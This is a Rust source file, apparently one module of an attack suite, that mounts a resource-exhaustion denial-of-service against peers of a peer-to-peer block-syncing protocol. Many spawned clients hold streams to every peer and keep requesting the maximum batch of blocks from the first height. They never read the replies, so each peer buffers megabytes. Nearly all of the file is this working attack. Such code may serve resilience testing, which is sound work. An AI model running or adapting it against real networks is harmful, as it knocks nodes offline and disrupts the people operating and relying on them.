//! Requests for blocks whose answers nobody reads. Each answer is megabytes in the memory of whoever made it.

use super::{Attack, Stranger, Target};
use allod_protocol::ground::{codec, ids::Height, limits};
use futures::AsyncWriteExt as _;
use std::{sync::atomic::Ordering, time::Duration};

/// So many strangers hold so many streams each to every peer of the target, and open others in the place of those that
/// are closed.
pub fn begin(target: Target, strangers: usize, streams: usize) -> Attack {
    Attack::begin(move |sent| async move {
        for _ in 0..strangers {
            let (target, sent) = (target.clone(), sent.clone());
            tokio::spawn(async move {
                let stranger = Stranger::join(&target).await;
                let mut held = Vec::new();
                for (peer, _) in &target.peers {
                    for _ in 0..streams {
                        let (mut control, protocol, peer, sent) =
                            (stranger.streams.clone(), target.sync(), *peer, sent.clone());
                        held.push(tokio::spawn(async move {
                            loop {
                                if let Ok(mut stream) = control.open_stream(peer, protocol.clone()).await
                                    && stream.write_all(&request()).await.is_ok()
                                    && stream.close().await.is_ok()
                                {
                                    sent.fetch_add(1, Ordering::Relaxed);
                                    // Longer than an answer may take.
                                    tokio::time::sleep(Duration::from_secs(25)).await;
                                } else {
                                    tokio::time::sleep(Duration::from_millis(100)).await;
                                }
                            }
                        }));
                    }
                }
                // None of them ends.
                for stream in held {
                    let _ = stream.await;
                }
                drop(stranger);
            });
        }
    })
}

/// The first blocks, as many as there may be in one answer.
fn request() -> Vec<u8> {
    codec::encode(&(Height::new(1), u32::try_from(limits::SYNC_BLOCKS).unwrap_or(u32::MAX)))
}
